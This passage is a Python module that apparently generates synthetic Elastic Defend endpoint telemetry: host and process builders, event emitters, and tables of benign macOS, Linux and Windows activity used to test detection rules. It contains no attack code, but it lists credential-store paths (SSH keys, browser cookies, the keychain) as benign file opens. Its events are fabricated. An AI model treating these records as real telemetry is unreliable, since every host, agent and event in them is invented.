"""Elastic Defend 8.x-shaped ECS event documents, shared by every generator in picket.

Contract
--------
* Pure building blocks: `Host`, `Proc` and the `Defend` emitter turn explicit inputs (host, time, process,
  path...) into one JSON-ready dict shaped like an Elastic Defend document (same envelope, field names and
  value conventions as `logs-endpoint.events.*` on macOS, Linux and Windows). Nothing here draws random
  numbers: callers own their `random.Random`, so every output is reproducible from the caller's seed.
* Time is epoch seconds (float). `@timestamp` gets millisecond precision; `event.ingested` gets second
  precision, like the Fleet ingest pipeline writes it. Pass `ingested=None` to leave the field out (the
  engine then falls back to `@timestamp`).
* The index an event lands in follows from `data_stream.{type,dataset,namespace}` — the engine routes on it,
  so a document's dataset decides which rules can see it.

Users: scripts/gen_demo.py, bench/gen_telemetry.py, emulations/build_fixtures.py. Stdlib only.
"""

from __future__ import annotations

import base64
import hashlib
import time as _time
import uuid

AGENT_VERSION = "8.15.2"
ECS_VERSION = "8.11.0"
NAMESPACE = "default"

# Fixed namespace for uuid5 so host ids are stable across runs and machines.
_ID_NS = uuid.UUID("8c0f4a64-5d1e-4f0b-9a57-0e3b1d6c9a11")


_SEC_CACHE: dict[int, str] = {}


def _second(whole: int) -> str:
    """'%Y-%m-%dT%H:%M:%S' for an epoch second; memoised because generators emit many events per second."""
    text = _SEC_CACHE.get(whole)
    if text is None:
        if len(_SEC_CACHE) > 4096:
            _SEC_CACHE.clear()
        text = _SEC_CACHE[whole] = _time.strftime("%Y-%m-%dT%H:%M:%S", _time.gmtime(whole))
    return text


def iso_ms(ts: float) -> str:
    """@timestamp / event.created format: 2026-03-02T14:05:11.482Z."""
    whole = int(ts)
    ms = int(round((ts - whole) * 1000))
    if ms == 1000:
        whole, ms = whole + 1, 0
    return _second(whole) + ".%03dZ" % ms


def iso_s(ts: float) -> str:
    """event.ingested format (second precision): 2026-03-02T14:05:13Z."""
    return _second(int(ts)) + "Z"


def parse_iso(s: str) -> float:
    """Inverse of iso_ms/iso_s for the 'Z' forms above (used by checkers, not by generators)."""
    base, _, frac = s.rstrip("Z").partition(".")
    import calendar
    t = calendar.timegm(_time.strptime(base, "%Y-%m-%dT%H:%M:%S"))
    return t + (float("0." + frac) if frac else 0.0)


def get_path(doc: dict, field: str):
    """The value at a dotted field of a nested document, or None."""
    cur = doc
    for part in field.split("."):
        if not isinstance(cur, dict) or part not in cur:
            return None
        cur = cur[part]
    return cur


def stable_hex(*parts: object, n: int = 64) -> str:
    return hashlib.sha256("|".join(map(str, parts)).encode()).hexdigest()[:n]


# --------------------------------------------------------------------------------------------------
# Hosts
# --------------------------------------------------------------------------------------------------

_OS = {
    "macos": [
        {"Ext": {"variant": "Darwin"}, "family": "macos", "full": "macOS 14.5", "kernel": "23.5.0",
         "name": "macOS", "platform": "macos", "type": "macos", "version": "14.5"},
        {"Ext": {"variant": "Darwin"}, "family": "macos", "full": "macOS 15.1", "kernel": "24.1.0",
         "name": "macOS", "platform": "macos", "type": "macos", "version": "15.1"},
        {"Ext": {"variant": "Darwin"}, "family": "macos", "full": "macOS 13.6.7", "kernel": "22.6.0",
         "name": "macOS", "platform": "macos", "type": "macos", "version": "13.6.7"},
    ],
    "linux": [
        {"Ext": {"variant": "Ubuntu"}, "family": "ubuntu", "full": "Ubuntu 22.04.4",
         "kernel": "5.15.0-105-generic", "name": "Linux", "platform": "ubuntu", "type": "linux",
         "version": "22.04.4"},
        {"Ext": {"variant": "Debian"}, "family": "debian", "full": "Debian 12.5", "kernel": "6.1.0-21-amd64",
         "name": "Linux", "platform": "debian", "type": "linux", "version": "12.5"},
    ],
    "windows": [
        {"Ext": {"variant": "Windows 11 Enterprise"}, "family": "windows",
         "full": "Windows 11 Enterprise 23H2", "kernel": "23H2 (10.0.22631.3593)", "name": "Windows",
         "platform": "windows", "type": "windows", "version": "23H2"},
    ],
}


class Host:
    """One endpoint. `ecs` is the host.* object; ids follow each OS's real format:
    macOS hardware UUID (upper case), Linux machine-id (32 hex), Windows GUID (lower case)."""

    __slots__ = ("name", "os_type", "id", "agent_id", "ecs", "ecs_lean", "user", "uid", "home", "ip")

    def __init__(self, name: str, os_type: str, user: str, variant: int = 0, uid: str | None = None):
        self.name, self.os_type, self.user = name, os_type, user
        u = uuid.uuid5(_ID_NS, "host:" + name)
        if os_type == "macos":
            self.id = str(u).upper()
            self.uid = uid or "501"
            self.home = "/Users/" + user
            arch = "arm64"
        elif os_type == "linux":
            self.id = u.hex
            self.uid = uid or "1000"
            self.home = "/home/" + user
            arch = "x86_64"
        else:
            self.id = str(u)
            self.uid = uid or "S-1-5-21-3623811015-3361044348-30300820-1013"
            self.home = "C:\\Users\\" + user
            arch = "x86_64"
        self.agent_id = str(uuid.uuid5(_ID_NS, "agent:" + name))
        h = int(u.hex[:8], 16)
        self.ip = "10.%d.%d.%d" % (20 + h % 40, (h >> 8) % 250 + 1, (h >> 16) % 250 + 2)
        mac = "-".join("%02x" % b for b in u.bytes[:6])
        osd = _OS[os_type][variant % len(_OS[os_type])]
        self.ecs = {"architecture": arch, "hostname": name, "id": self.id, "ip": [self.ip],
                    "mac": [mac], "name": name, "os": osd}
        self.ecs_lean = {"hostname": name, "id": self.id, "name": name,
                         "os": {k: osd[k] for k in ("family", "name", "type", "version")}}


# --------------------------------------------------------------------------------------------------
# Processes
# --------------------------------------------------------------------------------------------------

def sig_apple(name: str) -> dict:
    return {"exists": True, "signing_id": "com.apple." + name, "status": "trusted",
            "subject_name": "Software Signing", "team_id": "", "trusted": True}


def sig_dev(signing_id: str, subject: str, team: str) -> dict:
    return {"exists": True, "signing_id": signing_id, "status": "trusted",
            "subject_name": "Developer ID Application: %s (%s)" % (subject, team), "team_id": team,
            "trusted": True}


def sig_adhoc(signing_id: str) -> dict:
    # Homebrew and conda binaries are ad-hoc signed: a signature exists but chains to nothing.
    return {"exists": True, "signing_id": signing_id, "status": "errorUntrustedRoot",
            "subject_name": "", "team_id": "", "trusted": False}


SIG_UNSIGNED = {"exists": False, "status": "unsigned", "trusted": False}


def sig_windows(subject: str) -> dict:
    return {"exists": True, "status": "trusted", "subject_name": subject, "trusted": True}


def basename(path: str) -> str:
    return path.replace("\\", "/").rsplit("/", 1)[-1]


class Proc:
    """A running process as Defend describes it. `args[0]` is the executable path (Defend's convention)."""

    __slots__ = ("host", "pid", "executable", "name", "args", "start", "cwd", "sig", "entity_id", "user",
                 "parent")

    def __init__(self, host: Host, pid: int, executable: str, args: list[str] | None = None,
                 start: float = 0.0, cwd: str = "/", sig: dict | None = None, name: str | None = None,
                 user: str | None = None, parent: "Proc | None" = None):
        self.host, self.pid, self.executable = host, pid, executable
        self.name = name or basename(executable)
        self.args = args if args is not None else [executable]
        self.start, self.cwd, self.sig = start, cwd, sig
        self.user = user  # None: the host's interactive user
        self.parent = parent
        # Defend's entity_id is an opaque base64 token of (agent, pid, start); keep it as short as theirs.
        raw = "%s-%d-%d" % (host.agent_id[:8], pid, int(start))
        self.entity_id = base64.b64encode(raw.encode()).decode()

    @property
    def command_line(self) -> str:
        return " ".join(self.args)


# --------------------------------------------------------------------------------------------------
# Documents
# --------------------------------------------------------------------------------------------------

class Defend:
    """Builds documents. Holds only counters (event.sequence, event.id), never randomness.

    lean=True drops the fields no rule in the corpus keys on (hashes, ancestry, inode, Effective_process,
    signer subject, message, event.created, host.mac...) so bulk telemetry stays near 700-900 bytes per
    event; every field the detection rules read is kept."""

    def __init__(self, stream_tag: str = "picket", lean: bool = False):
        self._seq = 0
        self._tag = stream_tag
        self.lean = lean

    def _event_id(self) -> str:
        self._seq += 1
        raw = hashlib.blake2b(("%s:%d" % (self._tag, self._seq)).encode(), digest_size=18).digest()
        return base64.b64encode(raw).decode()

    def _user(self, host: Host, name: str | None) -> dict:
        if name is None or name == host.user:
            name, uid = host.user, host.uid
        elif name in ("root", "SYSTEM"):
            uid = "0" if name == "root" else "S-1-5-18"
        else:
            uid = str(500 + sum(map(ord, name)) % 400)
        if self.lean:
            return {"id": uid, "name": name}
        return {"id": uid, "name": name, "Ext": {"real": {"id": uid, "name": name}}}

    def _sig(self, sig: dict) -> dict:
        if self.lean:
            return {k: sig[k] for k in ("exists", "signing_id", "trusted") if k in sig}
        return sig

    def _envelope(self, host: Host, ts: float, ingested: float | None, dataset: str, category: list,
                  etype: list, action: str, message: str, outcome: str = "success",
                  kind: str = "event") -> dict:
        ev = {"action": action, "category": category, "created": iso_ms(ts), "dataset": dataset,
              "id": self._event_id(), "kind": kind, "module": "endpoint", "outcome": outcome,
              "sequence": self._seq, "type": etype}
        if ingested is not None:
            ev["ingested"] = iso_s(ingested)
        if self.lean:
            del ev["created"]
            return {"@timestamp": iso_ms(ts),
                    "agent": {"id": host.agent_id, "type": "endpoint", "version": AGENT_VERSION},
                    "data_stream": {"dataset": dataset, "namespace": NAMESPACE, "type": "logs"},
                    "ecs": {"version": ECS_VERSION}, "event": ev, "host": host.ecs_lean}
        return {
            "@timestamp": iso_ms(ts),
            "agent": {"id": host.agent_id, "type": "endpoint", "version": AGENT_VERSION},
            "data_stream": {"dataset": dataset, "namespace": NAMESPACE, "type": "logs"},
            "ecs": {"version": ECS_VERSION},
            "elastic": {"agent": {"id": host.agent_id}},
            "event": ev,
            "host": host.ecs,
            "message": message,
        }

    def _proc_short(self, p: Proc) -> dict:
        d = {"entity_id": p.entity_id, "executable": p.executable, "name": p.name, "pid": p.pid}
        if p.sig is not None:
            d["code_signature"] = self._sig(p.sig)
        return d

    # ---- process ---------------------------------------------------------------------------------

    def process(self, p: Proc, ts: float, ingested: float | None, action: str = "exec",
                etype: list | None = None) -> dict:
        """Process exec/fork/end (macOS, Linux: action exec|fork|end; Windows: start|end)."""
        host = p.host
        if etype is None:
            etype = ["end"] if action == "end" else (["start"] if action in ("exec", "start", "fork")
                                                      else ["info"])
        doc = self._envelope(host, ts, ingested, "endpoint.events.process", ["process"], etype, action,
                             "Endpoint process event")
        proc = {
            "args": p.args, "args_count": len(p.args), "command_line": p.command_line,
            "entity_id": p.entity_id, "executable": p.executable,
            "name": p.name, "pid": p.pid, "working_directory": p.cwd,
        }
        lean = self.lean
        if not lean:
            proc["hash"] = {"sha256": stable_hex("sha256", p.executable)}
        if p.sig is not None:
            proc["code_signature"] = self._sig(p.sig)
        par = p.parent
        if par is not None:
            proc["parent"] = {"args_count": len(par.args), "command_line": par.command_line,
                              "entity_id": par.entity_id, "executable": par.executable, "name": par.name,
                              "pid": par.pid}
            if par.sig is not None and not lean:
                proc["parent"]["code_signature"] = par.sig
            if not lean:
                proc["Ext"] = {"ancestry": [par.entity_id] + ([par.parent.entity_id] if par.parent else [])}
        if action == "end":
            proc["exit_code"] = 0
        if lean:
            doc["process"] = proc
            doc["user"] = self._user(host, p.user)
            return doc
        if host.os_type != "windows":
            proc["group_leader"] = {"pid": par.pid if par else p.pid}
            proc["session_leader"] = {"pid": (par.parent.pid if par and par.parent else p.pid)}
        doc["process"] = proc
        doc["user"] = self._user(host, p.user)
        if host.os_type == "macos":
            doc["group"] = {"id": "20", "name": "staff"}
        return doc

    # ---- file ------------------------------------------------------------------------------------

    def file(self, p: Proc, ts: float, ingested: float | None, action: str, path: str,
             etype: list | None = None, size: int = 0) -> dict:
        """File event: open (macOS sensitive-file access), creation, modification, deletion, rename."""
        host = p.host
        if etype is None:
            etype = {"open": ["access"], "creation": ["creation"], "modification": ["change"],
                     "overwrite": ["change"], "deletion": ["deletion"], "rename": ["change"]}.get(action, ["info"])
        doc = self._envelope(host, ts, ingested, "endpoint.events.file", ["file"], etype, action,
                             "Endpoint file event")
        name = basename(path)
        f = {"name": name, "path": path, "size": size}
        if "." in name.lstrip("."):
            f["extension"] = name.rsplit(".", 1)[-1]
        proc = self._proc_short(p)
        if p.parent is not None:
            proc["parent"] = {"pid": p.parent.pid}
        doc["file"] = f
        doc["process"] = proc
        doc["user"] = self._user(host, p.user)
        if self.lean:
            return doc
        f["inode"] = int(stable_hex("inode", host.id, path, n=8), 16) % 90000000
        if action == "open":
            f["hash"] = {"sha256": stable_hex("content", host.id, path)}
        doc["Effective_process"] = {"entity_id": p.entity_id, "executable": p.executable, "name": p.name,
                                    "pid": p.pid}
        if host.os_type == "macos":
            doc["group"] = {"id": "20", "name": "staff"}
        return doc

    def launch_daemon(self, p: Proc, ts: float, ingested: float | None, plist: str, label: str,
                      program_args: list[str], runatload: bool = True, keepalive: bool = False,
                      with_file_path: bool = True) -> dict:
        """macOS persistence event: a plist written under LaunchAgents/LaunchDaemons. Defend ships it in the
        file data stream with the parsed plist under Persistence.*. `file.path` carries the plist path too
        (the rule's new-terms field); with_file_path=False models a document that lacks it."""
        doc = self.file(p, ts, ingested, "launch_daemon", plist, etype=["creation"], size=612)
        doc["file"].pop("hash", None)
        if not with_file_path:
            del doc["file"]["path"]
        doc["Persistence"] = {"args": program_args, "keepalive": keepalive, "name": label, "path": plist,
                              "runatload": runatload}
        if not self.lean:
            doc["process"]["Ext"] = {"ancestry": [p.parent.entity_id] if p.parent else []}
        return doc

    # ---- network ---------------------------------------------------------------------------------

    def network(self, p: Proc, ts: float, ingested: float | None, dst_ip: str, dst_port: int,
                action: str = "connection_attempted", transport: str = "tcp", src_port: int = 50000) -> dict:
        host = p.host
        etype = {"connection_attempted": ["start"], "connection_accepted": ["start"],
                 "disconnect_received": ["end"]}.get(action, ["info"])
        doc = self._envelope(host, ts, ingested, "endpoint.events.network", ["network"], etype, action,
                             "Endpoint network event")
        outbound = action != "connection_accepted"
        doc["destination"] = {"address": dst_ip, "ip": dst_ip, "port": dst_port}
        doc["source"] = {"address": host.ip, "ip": host.ip, "port": src_port}
        if not outbound:
            doc["destination"], doc["source"] = (
                {"address": host.ip, "ip": host.ip, "port": dst_port},
                {"address": dst_ip, "ip": dst_ip, "port": src_port})
        doc["network"] = {"direction": "egress" if outbound else "ingress", "transport": transport,
                          "type": "ipv6" if ":" in dst_ip else "ipv4"}
        doc["process"] = self._proc_short(p)
        doc["user"] = self._user(host, p.user)
        return doc

    def dns(self, p: Proc, ts: float, ingested: float | None, question: str, answers: list[str]) -> dict:
        """DNS lookup (Defend reports these on Windows as event.action lookup_result)."""
        host = p.host
        doc = self._envelope(host, ts, ingested, "endpoint.events.network", ["network"], ["protocol", "info"],
                             "lookup_result", "Endpoint DNS event")
        doc["dns"] = {"question": {"name": question, "type": "A"},
                      "resolved_ip": answers,
                      "Ext": {"options": "0x00000000", "status": 0}}
        doc["network"] = {"protocol": "dns"}
        doc["process"] = self._proc_short(p)
        doc["user"] = self._user(host, p.user)
        return doc

    # ---- library loads and registry changes ------------------------------------------------------

    def library(self, p: Proc, ts: float, ingested: float | None, path: str, sig: dict | None = None) -> dict:
        """A module loaded into a process (Defend: logs-endpoint.events.library; dll.* on every OS, as
        Defend names the loaded image dll.* on macOS and Linux too)."""
        host = p.host
        doc = self._envelope(host, ts, ingested, "endpoint.events.library", ["library"], ["start"], "load",
                             "Endpoint library load event")
        sep = "\\" if host.os_type == "windows" else "/"
        dll = {"name": path.rsplit(sep, 1)[-1], "path": path}
        if sig is not None:
            dll["code_signature"] = self._sig(sig) if not self.lean else {
                k: sig[k] for k in ("exists", "subject_name", "trusted", "status") if k in sig}
        if not self.lean:
            dll["hash"] = {"sha256": stable_hex("sha256", path)}
        doc["dll"] = dll
        doc["process"] = self._proc_short(p)
        doc["user"] = self._user(host, p.user)
        return doc

    def registry(self, p: Proc, ts: float, ingested: float | None, hive: str, key: str, value: str,
                 data: list[str], data_type: str = "REG_SZ", action: str = "modification") -> dict:
        """A Windows registry value set (Defend: logs-endpoint.events.registry)."""
        host = p.host
        doc = self._envelope(host, ts, ingested, "endpoint.events.registry", ["registry"], ["change"], action,
                             "Endpoint registry event")
        doc["registry"] = {"data": {"strings": data, "type": data_type}, "hive": hive, "key": key,
                           "path": "%s\\%s\\%s" % (hive, key, value), "value": value}
        doc["process"] = self._proc_short(p)
        doc["user"] = self._user(host, p.user)
        return doc

    # ---- alerts and non-endpoint datasets (index-scoping look-alikes) ---------------------------

    def as_endpoint_alert(self, doc: dict, rule_name: str) -> dict:
        """Re-shape a document into the Elastic Defend alert that would quote it (logs-endpoint.alerts-*).
        Same process/file fields, different data stream — no events.* rule may see it."""
        a = dict(doc)
        a["data_stream"] = {"dataset": "endpoint.alerts", "namespace": NAMESPACE, "type": "logs"}
        ev = dict(doc["event"])
        ev.update({"dataset": "endpoint.alerts", "kind": "alert", "id": self._event_id(),
                   "code": "behavior", "risk_score": 73, "severity": 73})
        a["event"] = ev
        a["rule"] = {"name": rule_name, "ruleset": "production", "version": "1.0.43",
                     "id": stable_hex("endpoint-rule", rule_name, n=32)}
        a["message"] = "Malicious Behavior Prevention Alert: " + rule_name
        return a

    def auth(self, host: Host, ts: float, ingested: float | None, user: str, src_ip: str,
             success: bool) -> dict:
        """Linux sshd login as the System integration writes it (logs-system.auth-*)."""
        doc = {
            "@timestamp": iso_ms(ts),
            "agent": {"id": host.agent_id, "type": "filebeat", "version": AGENT_VERSION},
            "data_stream": {"dataset": "system.auth", "namespace": NAMESPACE, "type": "logs"},
            "ecs": {"version": ECS_VERSION},
            "event": {"action": "ssh_login", "category": ["authentication", "session"],
                      "dataset": "system.auth", "kind": "event", "module": "system",
                      "outcome": "success" if success else "failure",
                      "type": ["start"] if success else ["info"]},
            "host": host.ecs,
            "process": {"name": "sshd", "pid": 900 + int(ts) % 30000},
            "related": {"ip": [src_ip], "user": [user]},
            "source": {"ip": src_ip, "port": 40000 + int(ts) % 20000},
            "system": {"auth": {"ssh": {"event": "Accepted" if success else "Failed", "method": "publickey"}}},
            "user": {"name": user},
        }
        if ingested is not None:
            doc["event"]["ingested"] = iso_s(ingested)
        return doc

    def cloudtrail(self, ts: float, ingested: float | None, account: str, user: str, action: str,
                   src_ip: str, provider: str = "iam.amazonaws.com") -> dict:
        doc = {
            "@timestamp": iso_ms(ts),
            "aws": {"cloudtrail": {"event_type": "AwsApiCall", "user_identity": {
                "arn": "arn:aws:iam::%s:user/%s" % (account, user), "type": "IAMUser"}}},
            "cloud": {"account": {"id": account}, "provider": "aws", "region": "us-east-1"},
            "data_stream": {"dataset": "aws.cloudtrail", "namespace": NAMESPACE, "type": "logs"},
            "ecs": {"version": ECS_VERSION},
            "event": {"action": action, "dataset": "aws.cloudtrail", "kind": "event", "module": "aws",
                      "outcome": "success", "provider": provider, "id": self._event_id()},
            "source": {"address": src_ip, "ip": src_ip},
            "user": {"name": user},
            "user_agent": {"original": "aws-cli/2.15.30 Python/3.11.8 Darwin/23.5.0 exe/x86_64"},
        }
        if ingested is not None:
            doc["event"]["ingested"] = iso_s(ingested)
        return doc


    def integration(self, ts: float, ingested: float | None, dataset: str, action: str, category: list,
                    etype: list, outcome: str, extra: dict, provider: str | None = None) -> dict:
        """Any non-endpoint integration document (Okta, O365, Kubernetes audit, Azure sign-in...):
        the common ECS envelope plus the integration's own fields in `extra`."""
        ev = {"action": action, "category": category, "dataset": dataset, "id": self._event_id(),
              "kind": "event", "module": dataset.split(".")[0], "outcome": outcome, "type": etype}
        if provider:
            ev["provider"] = provider
        if ingested is not None:
            ev["ingested"] = iso_s(ingested)
        doc = {"@timestamp": iso_ms(ts),
               "data_stream": {"dataset": dataset, "namespace": NAMESPACE, "type": "logs"},
               "ecs": {"version": ECS_VERSION}, "event": ev}
        doc.update(extra)
        return doc


def index_of(doc: dict) -> str | None:
    """The index picket routes a document to: <type>-<dataset>-<namespace>, or None if incomplete."""
    ds = doc.get("data_stream") or {}
    parts = [ds.get("type"), ds.get("dataset"), ds.get("namespace")]
    return "-".join(parts) if all(isinstance(x, str) and x for x in parts) else None


# ==================================================================================================
# Workload: benign activity episodes plus the malicious model load, shared by the demo and the bench
# ==================================================================================================
#
# An episode is one small, causally consistent burst on one host (a user runs git, brew upgrades, a
# notebook starts...). `Workload.episode(host, t)` picks one by weight and returns its documents; every
# choice is drawn from the caller-supplied random.Random, so output depends only on the seed.

PY_INTERPRETERS = [
    ("/opt/homebrew/bin/python3", sig_adhoc("python3.12")),
    ("/usr/local/bin/python3.12", sig_dev("org.python.python", "Python Software Foundation", "DJ3H93M7VJ")),
    ("/Library/Frameworks/Python.framework/Versions/3.11/bin/python3.11",
     sig_dev("org.python.python", "Python Software Foundation", "DJ3H93M7VJ")),
    ("/usr/bin/python3", sig_apple("python3")),
]

# (executable, args, network destination or None) for everyday terminal commands on macOS.
MAC_TOOLS = [
    ("/usr/bin/git", ["fetch", "--prune"], ("140.82.112.3", 443)),
    ("/usr/bin/git", ["status", "--short"], None),
    ("/usr/bin/git", ["push", "origin", "HEAD"], ("140.82.112.4", 22)),
    ("/bin/ls", ["-la"], None),
    ("/usr/bin/curl", ["-sSL", "https://api.github.com/repos/elastic/detection-rules"], ("140.82.114.6", 443)),
    ("/usr/bin/ssh", ["build@10.20.0.15"], ("10.20.0.15", 22)),
    ("/usr/bin/make", ["-j8"], None),
    ("/usr/bin/vim", ["README.md"], None),
    ("/opt/homebrew/bin/node", ["server.js"], ("127.0.0.1", 5432)),
    ("/usr/bin/defaults", ["read", "com.apple.dock"], None),
    ("/usr/bin/sw_vers", [], None),
    ("/usr/sbin/networksetup", ["-listallnetworkservices"], None),
    ("/usr/bin/plutil", ["-lint", "Info.plist"], None),
    ("/usr/bin/xattr", ["-l", "Downloads/report.pdf"], None),
    ("/usr/bin/codesign", ["-dv", "/Applications/Slack.app"], None),
    ("/usr/bin/openssl", ["x509", "-in", "cert.pem", "-noout", "-text"], None),
    ("/usr/bin/sqlite3", ["app.db", ".tables"], None),
    ("/usr/bin/sudo", ["-n", "true"], None),
    ("/usr/bin/pbcopy", [], None),
    ("/usr/bin/osascript", ["-e", "display notification \"build done\""], None),
    ("/bin/launchctl", ["list"], None),
    ("/usr/bin/security", ["find-certificate", "-a", "-p"], None),
]

MAC_APPS = [
    ("/Applications/Google Chrome.app/Contents/MacOS/Google Chrome",
     sig_dev("com.google.Chrome", "Google LLC", "EQHXZ8M8AV"), [("142.250.72.110", 443), ("172.217.4.46", 443)]),
    ("/Applications/Slack.app/Contents/MacOS/Slack", sig_dev("com.tinyspeck.slackmacgap", "Slack Technologies, Inc.",
                                                             "BQR82RBBHL"), [("34.237.73.95", 443)]),
    ("/Applications/zoom.us.app/Contents/MacOS/zoom.us", sig_dev("us.zoom.xos", "Zoom Video Communications, Inc.",
                                                               "BJ4HAAB9B3"), [("170.114.52.2", 443)]),
    ("/Applications/Visual Studio Code.app/Contents/MacOS/Electron",
     sig_dev("com.microsoft.VSCode", "Microsoft Corporation", "UBF8T346G9"), [("13.107.42.16", 443)]),
]

MAC_DAEMONS = [
    ("/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/Metadata.framework/Versions/A/"
     "Support/mdworker_shared", ["-s", "mdworker", "-c", "MDSImporterWorker", "-m", "com.apple.mdworker.shared"]),
    ("/usr/libexec/xpcproxy", ["com.apple.nsurlsessiond"]),
    ("/System/Library/CoreServices/XProtect.app/Contents/MacOS/XProtect", []),
    ("/usr/libexec/syspolicyd", []),
    ("/usr/sbin/softwareupdate", ["--background"]),
]

MAC_SYSTEM_LIBS = [
    "/usr/lib/libSystem.B.dylib", "/usr/lib/libc++.1.dylib", "/usr/lib/libobjc.A.dylib",
    "/System/Library/Frameworks/Foundation.framework/Versions/C/Foundation",
    "/System/Library/Frameworks/AppKit.framework/Versions/C/AppKit",
    "/System/Library/Frameworks/Security.framework/Versions/A/Security",
    "/System/Library/Frameworks/CoreFoundation.framework/Versions/A/CoreFoundation",
    "/System/Library/Frameworks/Network.framework/Versions/A/Network",
]

# (executable, args, network destination or None) for an operator's shell on Linux servers.
LINUX_TOOLS = [
    ("/usr/bin/curl", ["-fsSL", "-o", "/tmp/install.sh", "https://get.docker.com/install.sh"], ("104.18.26.21", 443)),
    ("/usr/bin/wget", ["-q", "https://releases.hashicorp.com/terraform/1.9.0/terraform_1.9.0_linux_amd64.zip"],
     ("151.101.1.183", 443)),
    ("/usr/bin/systemctl", ["restart", "nginx"], None),
    ("/usr/bin/journalctl", ["-u", "nginx", "--since", "-1h"], None),
    ("/usr/bin/docker", ["ps", "--format", "{{.Names}}"], None),
    ("/usr/bin/git", ["pull", "--ff-only"], ("140.82.112.3", 443)),
    ("/usr/bin/ps", ["aux"], None),
    ("/usr/bin/df", ["-h"], None),
    ("/usr/bin/tar", ["-czf", "/tmp/logs.tgz", "/var/log/nginx"], None),
    ("/usr/sbin/iptables", ["-L", "-n"], None),
    ("/usr/bin/kubectl", ["get", "pods", "-n", "ml-serving"], ("10.96.0.1", 443)),
    ("/usr/bin/python3", ["-m", "http.server", "8000"], None),
]

# (daemon, args, config file read at start or None)
LINUX_SERVICES = [
    ("/usr/sbin/nginx", ["-g", "daemon on; master_process on;"], "/etc/nginx/nginx.conf"),
    ("/usr/sbin/sshd", ["-D"], "/etc/ssh/sshd_config"),
    ("/usr/bin/containerd", [], "/etc/containerd/config.toml"),
    ("/usr/lib/postgresql/16/bin/postgres", ["-D", "/var/lib/postgresql/16/main"],
     "/etc/postgresql/16/main/postgresql.conf"),
    ("/usr/sbin/rsyslogd", ["-n", "-iNONE"], "/etc/rsyslog.conf"),
]

WIN_PROGRAMS = [
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "Google LLC"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "Microsoft Corporation"),
    ("C:\\Windows\\System32\\svchost.exe", "Microsoft Windows"),
    ("C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe", "Microsoft Corporation"),
    ("C:\\Windows\\explorer.exe", "Microsoft Windows"),
]
WIN_SYSTEM_DLLS = ["kernel32.dll", "ntdll.dll", "user32.dll", "advapi32.dll", "ws2_32.dll", "crypt32.dll",
                   "winhttp.dll", "ole32.dll", "combase.dll", "bcrypt.dll", "shell32.dll", "secur32.dll"]
# (writer, signer, hive, key, value, data): everyday registry writes of installers and updaters.
WIN_REGISTRY_WRITES = [
    ("C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe", "Microsoft Corporation", "HKU",
     "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "OneDrive",
     "\"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "Google LLC", "HKU",
     "Software\\Google\\Chrome\\PreferenceMACs\\Default", "homepage", "https://www.google.com/"),
    ("C:\\Windows\\System32\\svchost.exe", "Microsoft Windows", "HKLM",
     "SYSTEM\\CurrentControlSet\\Services\\BITS", "Start", "2"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "Microsoft Corporation", "HKU",
     "Software\\Microsoft\\Office\\16.0\\Word\\Options", "LastUILanguage", "1033"),
    ("C:\\Windows\\System32\\msiexec.exe", "Microsoft Windows", "HKLM",
     "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\{7B6E2A31-0F1D-4E6A-9C36-3D1B1E5A2F10}",
     "DisplayName", "Python 3.12.3 (64-bit)"),
]

PIP_PACKAGES = ["numpy", "pandas", "torch", "transformers", "requests", "scikit-learn", "boto3", "rich"]
SENSITIVE_BY_TOOL = [
    ("/usr/bin/ssh", ".ssh/id_ed25519"),
    ("/Applications/Google Chrome.app/Contents/MacOS/Google Chrome",
     "Library/Application Support/Google/Chrome/Default/Cookies"),
    ("/usr/bin/security", "Library/Keychains/login.keychain-db"),
]


class Workload:
    """Draws benign episodes for macOS, Linux and Windows hosts, plus labelled malicious ones."""

    MAC_WEIGHTS = [("terminal", 30), ("app", 14), ("system", 20), ("python_work", 8), ("pip", 3),
                   ("jupyter", 3), ("brew", 3), ("sensitive_open", 4), ("file_churn", 15), ("mac_library", 10)]
    LINUX_WEIGHTS = [("cron", 30), ("train", 15), ("ssh_login", 10), ("apt", 5), ("file_churn", 20),
                     ("linux_admin", 15), ("linux_service", 10)]
    WIN_WEIGHTS = [("win_app", 40), ("win_shell", 15), ("win_python", 10), ("win_files", 35), ("win_library", 20),
                   ("win_registry", 15), ("win_service", 8)]

    def __init__(self, rng, defend: Defend, ingest_delay=(1.0, 6.0)):
        self.rng, self.d = rng, defend
        self.delay_lo, self.delay_hi = ingest_delay
        self._pid = 1000
        self._tables = {}
        for key, weights in (("macos", self.MAC_WEIGHTS), ("linux", self.LINUX_WEIGHTS),
                             ("windows", self.WIN_WEIGHTS)):
            table = []
            for name, w in weights:
                table += [getattr(self, "_" + name)] * w
            self._tables[key] = table

    # ---- helpers ---------------------------------------------------------------------------------

    def pid(self) -> int:
        self._pid = self._pid + 1 + int(self.rng.random() * 40)
        if self._pid > 99000:
            self._pid = 1000
        return self._pid

    def ing(self, t: float) -> float:
        return t + self.delay_lo + self.rng.random() * (self.delay_hi - self.delay_lo)

    def shell(self, host: Host, t: float) -> Proc:
        if host.os_type == "linux":
            return Proc(host, self.pid(), "/bin/bash", ["/bin/bash"], start=t - 600, cwd=host.home)
        return Proc(host, self.pid(), "/bin/zsh", ["/bin/zsh", "-l"], start=t - 900, cwd=host.home,
                    sig=sig_apple("zsh"))

    def launchd(self, host: Host) -> Proc:
        return Proc(host, 1, "/sbin/launchd", ["/sbin/launchd"], start=0, sig=sig_apple("launchd"), user="root")

    def exec_(self, out: list, p: Proc, t: float, end_after: float | None = None):
        out.append(self.d.process(p, t, self.ing(t)))
        if end_after is not None:
            te = t + end_after
            out.append(self.d.process(p, te, self.ing(te), action="end"))

    def episode(self, host: Host, t: float) -> list[dict]:
        table = self._tables[host.os_type]
        return table[int(self.rng.random() * len(table))](host, t)

    # ---- macOS -----------------------------------------------------------------------------------

    def _terminal(self, host, t):
        out = []
        exe, args, net = self.rng.choice(MAC_TOOLS)
